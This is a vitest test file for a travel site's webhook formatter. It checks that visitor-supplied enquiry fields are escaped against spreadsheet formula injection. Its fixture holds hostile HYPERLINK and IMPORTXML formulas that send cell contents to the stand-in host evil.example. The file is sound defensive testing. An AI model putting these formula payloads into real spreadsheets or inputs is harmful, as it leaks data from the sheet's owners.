import { describe, expect, it } from "vitest";
import { webhookBody, type WebhookPayload } from "./webhook.server";

const hostile: WebhookPayload = {
  event: "enquiry.created",
  enquiry: { type: "lead", id: 7 },
  source: "popup",
  receivedAt: "2026-11-24T00:45:24.959Z",
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Asha")',
  firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Asha")',
  lastName: "",
  phone: "+1+2",
  email: null,
  message: 'Hi;=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")',
  package: { id: 1, title: "Bali 7D/6N", url: "https://pravas.example/packages/bali" },
  travellers: null,
  preferredMonth: null,
};

describe("the spreadsheet webhook formats", () => {
  it("sheet: visitor text cannot run as a formula in the spreadsheet the script appends to", () => {
    const fields = JSON.parse(webhookBody(hostile, "sheet").body) as Record<string, string>;
    expect(fields.name).toBe(`'${hostile.name}`);
    expect(fields.firstName).toBe(`'${hostile.firstName}`);
    expect(fields.phone).toBe("'+1+2");
    expect(fields.message).toBe('Hi;\'=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")');
    expect(fields.package).toBe("Bali 7D/6N");
    expect(fields.receivedAt).toBe("2026-11-24T00:45:24.959Z");
  });

  it("form: the same fields, URL-encoded", () => {
    const fields = new URLSearchParams(webhookBody({ ...hostile, phone: "+91 98765 43210" }, "form").body);
    expect(fields.get("name")).toBe(`'${hostile.name}`);
    expect(fields.get("phone")).toBe("+91 98765 43210");
  });

  it("json: the structured payload is data for a program, sent as it was typed", () => {
    const body = JSON.parse(webhookBody(hostile, "json").body) as WebhookPayload;
    expect(body.name).toBe(hostile.name);
  });
});
